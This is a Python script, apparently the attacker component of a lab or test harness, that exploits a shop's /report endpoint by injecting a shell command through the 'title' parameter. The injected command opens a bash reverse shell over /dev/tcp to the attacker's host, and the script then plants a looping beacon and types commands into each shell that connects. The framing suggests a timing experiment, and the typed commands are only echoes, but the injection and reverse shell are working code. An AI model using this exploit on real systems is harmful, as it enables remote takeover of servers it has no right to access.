# SPDX-License-Identifier: Apache-2.0
"""The attacker's host: a listener for the reverse shell, and the exploit that opens it.

Exploits the shop once for each line ``go`` on stdin, and types commands into each shell that comes
back, for ever. Prints one JSON line for what arrives: ``{"at_wall_ns": kernel receive time,
"bytes": n}``, and ``{"event": "shell", ...}`` when the shell connects. The receive time is the
kernel's (SO_TIMESTAMPNS), so that a slow reader does not look like a late byte.

Usage: attacker.py LISTEN_PORT BEACON_PORT SHOP_URL ATTACKER_NAME
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

TYPING_PAUSE_S = 0.05
SO_TIMESTAMPNS = 35  # asm-generic/socket.h; the socket module has no name for it
TIMESPEC = struct.Struct("@qq")


def say(**fields: object) -> None:
    """Print one JSON line."""
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def exploit(shop_url: str, name: str, port: int) -> None:
    """Send the injected command: a bash that connects back to the attacker's name."""
    title = f"x; (bash -c 'bash -i >& /dev/tcp/{name}/{port} 0>&1' &)"
    url = f"{shop_url}/report?title={urllib.parse.quote(title)}"
    try:
        with urllib.request.urlopen(url, timeout=10) as response:  # noqa: S310 - built from our own arguments
            response.read()
    except (urllib.error.URLError, OSError) as error:
        say(event="exploit-request-ended", detail=str(error))


def receive_time_ns(ancillary: list[tuple[int, int, bytes]]) -> int:
    """Return the kernel's receive time in wall ns, or now when the kernel gave none."""
    for level, kind, data in ancillary:
        if level == socket.SOL_SOCKET and kind == SO_TIMESTAMPNS:
            seconds, nanoseconds = TIMESPEC.unpack(data[: TIMESPEC.size])
            return int(seconds * 1_000_000_000 + nanoseconds)
    return time.time_ns()


def use_shell(shell: socket.socket, beacon_port: int, own_address: str) -> None:
    """Type into the open shell for ever; report each arrival."""
    shell.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
    shell.setblocking(False)
    beacon = f"(echo beacon > /dev/tcp/{own_address}/{beacon_port}) 2>/dev/null"
    shell.send(f"(while :; do sleep 0.2; {beacon}; done) &\n".encode())
    typed = 0
    next_line = time.monotonic()
    while True:
        readable, _, _ = select.select([shell], [], [], max(0.0, next_line - time.monotonic()))
        if readable:
            data, ancillary, _, _ = shell.recvmsg(65536, 256)
            if not data:
                say(event="shell-closed")
                return
            say(at_wall_ns=receive_time_ns(ancillary), bytes=len(data))
        if time.monotonic() >= next_line:
            typed += 1
            next_line = time.monotonic() + TYPING_PAUSE_S
            try:
                shell.send(f"echo stolen secret number {typed}\n".encode())
            except BlockingIOError:
                continue  # the victim takes nothing more: exactly what a cut looks like from here


def count_beacons(listener: socket.socket) -> None:
    """Report each connection of the implant's second channel."""
    while True:
        connection, _ = listener.accept()
        say(event="beacon", at_wall_ns=time.time_ns())
        connection.close()


def accept_shells(listener: socket.socket, beacon_port: int) -> None:
    """Use every shell that connects, each in a thread of its own."""
    while True:
        shell, peer = listener.accept()
        say(event="shell", at_wall_ns=time.time_ns(), peer=peer[0])
        arguments = (shell, beacon_port, shell.getsockname()[0])
        threading.Thread(target=use_shell, args=arguments, daemon=True).start()


def main() -> None:
    """Listen; exploit the shop once for each ``go``; end with standard input."""
    listen_port, beacon_port = int(sys.argv[1]), int(sys.argv[2])
    shop_url, name = sys.argv[3], sys.argv[4]
    with (
        socket.create_server(("", listen_port)) as shells,
        socket.create_server(("", beacon_port)) as beacons,
    ):
        threading.Thread(target=accept_shells, args=(shells, beacon_port), daemon=True).start()
        threading.Thread(target=count_beacons, args=(beacons,), daemon=True).start()
        say(event="listening")
        for line in sys.stdin:
            if line.strip() == "go":
                threading.Thread(target=exploit, args=(shop_url, name, listen_port), daemon=True).start()


if __name__ == "__main__":
    main()
